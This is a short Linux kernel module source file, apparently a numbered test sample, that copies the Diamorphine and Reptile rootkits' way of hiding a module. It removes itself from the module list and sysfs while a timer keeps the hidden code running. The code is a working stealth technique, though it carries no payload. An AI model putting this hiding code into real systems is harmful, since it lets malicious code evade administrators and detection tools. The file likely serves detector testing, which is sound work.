// SPDX-License-Identifier: GPL-2.0
/*
 * 10. Hide from the module list and sysfs, as Diamorphine and Reptile do:
 * unlink THIS_MODULE from `modules` and delete its kobject. lsmod and
 * /proc/modules no longer show it; its code stays loaded, and runs: a timer
 * fires every second, as a hidden rootkit's periodic work would. With
 * how=sysfs it only deletes its kobject: gone from /sys/module, still listed.
 */
#include <linux/module.h>
#include <linux/kobject.h>
#include <linux/rculist.h>
#include <linux/timer.h>

static char *how = "list";
module_param(how, charp, 0);

static struct timer_list tick;
static unsigned long ticks;

static void rk_tick(struct timer_list *t)
{
	ticks++;
	mod_timer(&tick, jiffies + HZ);
}

static int __init rk_init(void)
{
	timer_setup(&tick, rk_tick, 0);
	mod_timer(&tick, jiffies + HZ);
	if (strcmp(how, "sysfs"))
		list_del_rcu(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rk_hide: hidden\n");
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
